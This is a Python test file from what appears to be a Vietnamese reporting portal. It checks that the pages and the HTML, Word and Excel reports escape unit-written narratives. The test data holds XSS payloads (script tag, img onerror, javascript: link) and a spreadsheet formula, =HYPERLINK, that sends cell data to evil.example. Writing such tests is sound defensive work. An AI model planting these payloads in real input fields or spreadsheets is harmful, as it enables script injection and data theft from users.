"""What a unit writes is text everywhere it is shown: HTML and script sent through the real
API come out escaped in the portal's pages, the compiled report's HTML, its DOCX (plain text
runs: no markup, field or link is made from it) and its XLSX (a leading "=" stays text, never
a formula run on the reader's machine)."""

from __future__ import annotations

import io
import re
import zipfile
from html.parser import HTMLParser

import docx
import openpyxl

from models.db import session_factory
from reports.compile import load_report
from reports.render_docx import render_docx
from reports.render_html import render_html
from reports.render_xlsx import render_xlsx
from tests.support.intake import NOW, Portal, item_id, new_token, sign_in

SCRIPT = "<script>alert('xss-1')</script>"
IMG = '<img src=x onerror="alert(2)">'
LINK = "<a href='javascript:alert(3)'>bấm vào đây</a>"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'
NARRATIVE = {
    "Kết quả thực hiện": f"Đã làm {SCRIPT} và {IMG}",
    "Khó khăn, vướng mắc": f"{LINK}\n</p></div><h1>Giả mạo</h1>",
    "Đề xuất, kiến nghị": FORMULA,
}


class _Tags(HTMLParser):
    """Every element and attribute of a page, and the text inside its script elements."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def _assert_inert(html: str) -> None:
    page = _Tags()
    page.feed(html)
    assert not [t for t, a in page.tags if any(k.startswith("on") for k in a)], "event handler"
    assert not [a for t, a in page.tags if "javascript:" in (a.get("href") or "")]
    assert not [a for t, a in page.tags if t == "img" and a.get("src") == "x"]
    assert "<h1>Giả mạo</h1>" not in html and "</p></div><h1>" not in html
    assert not [s for s in page.scripts if "xss-1" in s]
    assert "&lt;script&gt;alert(&#39;xss-1&#39;)&lt;/script&gt;" in html  # shown, as text


def test_html_and_script_in_a_narrative_stay_text_in_pages_and_reports(portal: Portal) -> None:
    token = new_token(portal.engine, "xa-mot")
    body = {
        "obligation": "bao-cao-thang",
        "period": "2024-04",
        "values": {"viec-lam": "1.300", "ty-le": "67,5", "ghi-chu": FORMULA},
        "narrative": NARRATIVE,
    }
    with portal.client(token) as client:
        sent = client.post("/api/v1/submissions", json=body)
        assert sent.status_code == 201, sent.text
    receipt_no = sent.json()["receipt_no"]
    assert sent.json()["narrative"]["Kết quả thực hiện"] == NARRATIVE["Kết quả thực hiện"]

    # The portal's pages: the receipt, and a form shown again with what was typed.
    with portal.client() as browser:
        sign_in(browser, token)
        receipt = browser.get(f"/receipts/{receipt_no}")
        assert receipt.status_code == 200
        _assert_inert(receipt.text)
        item = item_id(portal.engine, "xa-mot", "bao-cao-thang", "2024-04")
        form = browser.get(f"/items/{item}").text
        csrf = re.search(r'name="csrf" value="([^"]+)"', form)
        assert csrf is not None
        again = browser.post(
            f"/items/{item}",
            data={"csrf": csrf.group(1), "mode": "form", "v.viec-lam": "nhiều", "n.0": SCRIPT},
        )
        assert again.status_code == 422  # refused, and what was typed is shown back
        _assert_inert(again.text)

    # The consolidated report of the month, from what was stored.
    with session_factory(portal.engine)() as session:
        report = load_report(session=session, period="2024-04", as_of=NOW, plan_code="intake-2024")
    html = render_html(report, None).decode("utf-8")
    assert "Giả mạo" in html  # the unit's narrative is in the report
    _assert_inert(html)
    assert "<script" not in html  # the report page has no script of its own, nor the unit's

    document = render_docx(report, None)
    paragraphs = [p.text for p in docx.Document(io.BytesIO(document)).paragraphs]
    shown = "\n".join(paragraphs)
    assert SCRIPT in shown and IMG in shown and LINK in shown  # verbatim, as text
    xml = zipfile.ZipFile(io.BytesIO(document)).read("word/document.xml").decode("utf-8")
    assert "<script" not in xml and "&lt;script&gt;" in xml
    for made in ("<w:hyperlink", "<w:fldSimple", "<w:instrText", "<w:altChunk"):
        assert made not in xml, made  # no link, field or embedded markup from the text

    workbook = render_xlsx(report)
    sheets = openpyxl.load_workbook(io.BytesIO(workbook))
    cells = [c for ws in sheets.worksheets for row in ws.iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert texts and all(c.data_type == "s" for c in texts)
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        parts = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".xml")]
    assert not [p for p in parts if re.search(r"<f>[^<]*HYPERLINK", p)]  # no formula cell
